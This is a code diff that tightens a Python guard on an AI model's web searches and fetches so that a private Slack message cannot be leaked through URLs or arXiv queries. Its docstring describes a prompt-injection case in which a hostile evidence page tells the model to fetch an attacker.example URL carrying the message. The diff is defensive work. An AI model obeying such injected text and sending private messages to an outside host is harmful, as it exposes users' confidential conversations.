@@ -3,9 +3,9 @@
 The prompt holds the Slack message, which may come from a private channel, and the evidence may be a hostile page
 telling the model to fetch `https://attacker.example/?q=<the message>`. So a search reads only:
 - a URL written in the evidence itself (the page's own links, verbatim: the model added nothing to them), or
-- a URL on the source's own site, without a query string or fragment, and with no word of the message in its path
-  that the evidence does not also have;
-and an arXiv query keeps only words that are not the message's own (words the evidence also uses stay).
+- a URL on the source's own site, without user info, query string or fragment, whose path is made only of words the
+  evidence has: no word of the message, nor any chunk or encoding of it, can ride along;
+and an arXiv query keeps only the words the evidence has.
 """
 
 import re
@@ -13,7 +13,7 @@ from urllib.parse import urlsplit, urlunsplit
 
 from technoshare_common.schemas import Evidence, SearchRequest
 
-_WORD = re.compile(r"[a-z0-9]{4,}")
+_TOKEN = re.compile(r"[a-z0-9]+")
 _URL = re.compile(r"https?://[^\s<>\"')\]]+")
 
 
@@ -36,20 +36,24 @@ def _evidence_urls(evidence: Evidence) -> set[str]:
     return {url.rstrip(".,;:") for url in urls}
 
 
-def _private_words(slack_text: str, evidence: Evidence) -> set[str]:
-    """Words of the message the evidence does not have: what a fetch must never carry."""
-    said = set(_WORD.findall(_URL.sub(" ", slack_text.lower())))
-    return said - set(_WORD.findall(_evidence_text(evidence).lower()))
+def _evidence_tokens(evidence: Evidence) -> set[str]:
+    """Every word and number the evidence has, its links' included: all a fetch built by the model may carry."""
+    return set(_TOKEN.findall((_evidence_text(evidence) + " " + " ".join(_evidence_urls(evidence))).lower()))
 
 
-def allowed_search(request: SearchRequest, evidence: Evidence, slack_text: str) -> SearchRequest:
-    """The request to send, with what it may not carry removed; SearchRefused when nothing acceptable is left."""
-    private = _private_words(slack_text, evidence)
+def _from_evidence(text: str, known: set[str]) -> bool:
+    return all(token in known for token in _TOKEN.findall(text.lower()) if len(token) > 1)
+
+
+def allowed_search(request: SearchRequest, evidence: Evidence) -> SearchRequest:
+    """The request to send, with what it may not carry removed; SearchRefused when nothing acceptable is left. Only
+    the evidence's own words pass, so no word of the Slack message does unless the evidence has it too."""
+    known = _evidence_tokens(evidence)
     if request.url is None:
         assert request.query is not None  # SearchRequest holds exactly one of them
-        kept = [word for word in request.query.split() if not set(_WORD.findall(word.lower())) & private]
+        kept = [word for word in request.query.split() if _from_evidence(word, known)]
         if len(" ".join(kept)) < 2:
-            raise SearchRefused("the query is made of the Slack message's own words")
+            raise SearchRefused("the query has no word of the evidence")
         return request.model_copy(update={"query": " ".join(kept)})
     url = str(request.url)
     if url.rstrip("/") in {known.rstrip("/") for known in _evidence_urls(evidence)}:
@@ -57,6 +61,9 @@ def allowed_search(request: SearchRequest, evidence: Evidence, slack_text: str) 
     parts = urlsplit(url)
     if _site(parts.hostname or "") != _site(urlsplit(evidence.url).hostname or ""):
         raise SearchRefused("only links in the evidence, or on the source's own site, may be read")
-    if set(_WORD.findall(parts.path.lower())) & private:
-        raise SearchRefused("the link carries words of the Slack message")
-    return request.model_copy(update={"url": urlunsplit((parts.scheme, parts.netloc, parts.path, "", ""))})
+    if parts.username or parts.password:
+        raise SearchRefused("the link carries user info")
+    if not _from_evidence(parts.path, known):
+        raise SearchRefused("the link's path has words the evidence does not: it may carry the Slack message")
+    netloc = parts.hostname + (f":{parts.port}" if parts.port else "") if parts.hostname else parts.netloc
+    return request.model_copy(update={"url": urlunsplit((parts.scheme, netloc, parts.path, "", ""))})
